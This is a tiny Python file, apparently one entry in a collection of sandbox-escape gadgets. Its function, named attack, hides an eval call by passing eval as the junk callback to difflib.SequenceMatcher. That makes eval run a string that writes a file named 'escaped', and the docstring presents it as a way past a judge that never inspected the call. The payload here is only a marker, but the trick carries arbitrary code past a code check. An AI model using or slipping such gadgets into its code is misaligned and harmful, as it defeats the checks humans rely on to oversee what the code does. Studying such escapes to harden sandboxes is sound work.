"""Class: module gadget. Source: own find. Escape: a matcher calls back what nobody judged."""

import difflib


def attack(model, tokenizer, address):
    difflib.SequenceMatcher(eval, ["a"], ["open('escaped', 'w').close()"])
